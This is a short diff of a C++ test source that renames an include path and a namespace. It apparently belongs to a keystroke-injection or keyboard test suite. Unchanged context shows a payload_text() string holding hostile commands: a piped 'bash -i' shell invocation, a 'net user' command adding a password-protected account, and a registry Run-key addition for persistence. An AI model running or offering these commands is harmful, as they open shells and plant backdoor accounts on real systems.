@@ -1,6 +1,6 @@
 // SPDX-License-Identifier: GPL-2.0-or-later
 // Keyboard: see the header.
-#include "tests/input-proxy/keyboard.hpp"
+#include "tests/base/typing/keyboard.hpp"
 
 #include <algorithm>
 #include <array>
@@ -8,7 +8,7 @@
 #include <cstddef>
 #include <map>
 
-namespace inputproxy::traces {
+namespace base::typing::traces {
 namespace {
 
 struct Row {
@@ -108,4 +108,4 @@ std::string_view payload_text() {
          "| bash -i & disown; exit\ncmd /c net user helper Passw0rd /add & reg add HKLM /v run\n";
 }
 
-}  // namespace inputproxy::traces
+}  // namespace base::typing::traces
